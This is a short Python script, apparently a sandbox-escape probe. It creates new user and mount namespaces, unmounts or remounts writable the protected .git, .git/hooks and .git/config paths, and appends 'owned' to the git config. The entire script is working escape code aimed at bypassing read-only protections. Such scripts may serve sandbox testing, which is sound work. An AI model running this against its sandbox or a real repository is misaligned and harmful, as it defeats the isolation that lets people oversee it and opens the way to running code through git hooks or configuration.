# Unmounts what protects git's settings, or mounts it writable, and writes.
from escape import *
libc.unshare(0x10000000 | 0x20000)
for path in (b".git", b".git/hooks", b".git/config"):
    libc.umount2(path, 2)
    libc.mount(None, path, None, 0x1000 | 0x20, None)
with open(".git/config", "a") as f:
    f.write("owned\n")
print("written")
